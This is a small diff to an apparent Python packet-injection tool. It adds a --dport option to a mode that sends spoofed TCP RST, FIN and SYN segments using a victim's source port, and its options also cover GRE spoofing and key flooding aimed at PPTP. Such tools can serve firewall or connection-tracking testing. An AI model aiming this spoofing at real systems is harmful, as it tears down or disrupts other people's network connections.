@@ -148,7 +148,7 @@ def tcp_spoof(a):
         for _ in range(a.count):
             for name, flags in (("rst", rst), ("fin", fin_ack), ("syn", syn)):
                 seq, ack = random.getrandbits(32), (random.getrandbits(32) if flags != syn else 0)
-                s.sendto(tcp_segment(a.local, a.sport, a.target, 1723, flags, seq, ack), (a.target, 0))
+                s.sendto(tcp_segment(a.local, a.sport, a.target, a.dport, flags, seq, ack), (a.target, 0))
                 sent.append(name)
                 time.sleep(0.1)
     finally:
@@ -400,6 +400,7 @@ def main():
     p.add_argument("--target", required=True)
     p.add_argument("--count", type=int, default=50)
     p.add_argument("--sport", type=int, default=40999, help="tcp-spoof: the victim's TCP source port; syn-rst-churn: ours")
+    p.add_argument("--dport", type=int, default=1723, help="tcp-spoof: the TCP destination port")
     p.add_argument("--spoof-source", default="198.51.100.2", help="gre-spoof: the source address written")
     p.add_argument("--key", type=int, default=0, help="gre-spoof, gre-key-flood: the GRE Key (a call's Call ID)")
     p.add_argument("--segments", type=int, default=30, help="ooo-data: segments per connection")
